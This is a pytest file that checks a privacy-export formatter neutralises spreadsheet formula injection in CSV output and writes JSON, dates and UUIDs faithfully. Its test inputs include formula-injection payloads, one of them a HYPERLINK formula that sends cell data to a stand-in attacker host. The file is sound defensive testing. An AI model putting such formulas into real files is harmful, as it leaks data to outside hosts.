"""What people wrote comes out as they wrote it, and no spreadsheet takes it for a formula."""

import csv
import io
import json
from datetime import UTC, date, datetime, timedelta, timezone
from uuid import UUID

import pytest

from backend.domains.privacy.exporting.formats import Csv, Form, Json

COLUMNS = {"text": "text", "more": "jsonb"}


def written(form: Form, *rows: dict[str, object], columns: dict[str, str] | None = None) -> bytes:
    columns = columns or dict.fromkeys(rows[0], "text")
    pages = [form.begin(columns), *(form.rows([row]) for row in rows), form.end()]
    return b"".join(pages)


def cells(content: bytes, delimiter: str = ",") -> list[list[str]]:
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\u00a0=1",
        "\uff1d1+1",
        "\uff0d1",
        "\uff0b1",
        "\uff201",
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+4915112345678",
    ],
)
def test_what_would_be_calculated_is_text_in_a_spreadsheet(text: str) -> None:
    ((_,), (cell,)) = cells(written(Csv(), {"text": text}))
    assert cell.startswith("'")
    assert cell.replace("'", "") == text
    assert json.loads(written(Json(), {"text": text})) == [{"text": text}]


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
@pytest.mark.parametrize("mark", ['"', "'", ",", ";", "\t", "|", "\n"])
def test_no_cell_begins_to_calculate_whatever_a_spreadsheet_takes_for_its_end(
    mark: str, delimiter: str
) -> None:
    content = written(Csv(), {"text": f"a{mark}=1+1", "more": f"b{mark} =1+1"})
    beginnings = [cell.lstrip()[:1] for line in cells(content, delimiter) for cell in line]
    assert "=" not in beginnings


def test_what_calculates_nothing_stays_as_it_is() -> None:
    text = 'Sie sagte: "Komm, wir gehen; es ist spät."\nUnd ging - 3 = 3.'
    ((_, _), (cell, number)) = cells(written(Csv(), {"text": text, "amount_minor": -5}))
    assert cell == text
    assert number == "-5"


def test_moments_are_in_utc_and_days_are_days() -> None:
    at = datetime(2026, 3, 2, 0, 30, tzinfo=timezone(timedelta(hours=2)))
    row: dict[str, object] = {
        "at": at,
        "utc": datetime(2026, 3, 2, 9, tzinfo=UTC),
        "local_day": date(2026, 3, 2),
        "id": UUID(int=7),
        "is_shared": True,
        "notes": None,
    }
    assert json.loads(written(Json(), row)) == [
        {
            "at": "2026-03-01T22:30:00Z",
            "utc": "2026-03-02T09:00:00Z",
            "local_day": "2026-03-02",
            "id": "00000000-0000-0000-0000-000000000007",
            "is_shared": True,
            "notes": None,
        }
    ]
    assert cells(written(Csv(), row))[1] == [
        "2026-03-01T22:30:00Z",
        "2026-03-02T09:00:00Z",
        "2026-03-02",
        "00000000-0000-0000-0000-000000000007",
        "true",
        "",
    ]


def test_what_is_json_in_the_database_is_json_in_the_file() -> None:
    row: dict[str, object] = {"text": '{"a": 1}', "more": '{"tea": true}'}
    assert json.loads(written(Json(), row, columns=COLUMNS)) == [
        {"text": '{"a": 1}', "more": {"tea": True}}
    ]


@pytest.mark.parametrize("count", [0, 1, 2])
def test_a_file_is_whole_however_many_rows_it_has(count: int) -> None:
    rows: list[dict[str, object]] = [{"text": str(number)} for number in range(count)]
    content = written(Json(), *rows, columns={"text": "text"})
    assert json.loads(content) == rows
    assert cells(written(Csv(), *rows, columns={"text": "text"}))[0] == ["text"]


@pytest.mark.parametrize("form", [Json(), Csv()])
def test_a_hash_is_never_written(form: Form) -> None:
    with pytest.raises(TypeError, match="bytes stands in no export"):
        written(form, {"hash": b"secret"})
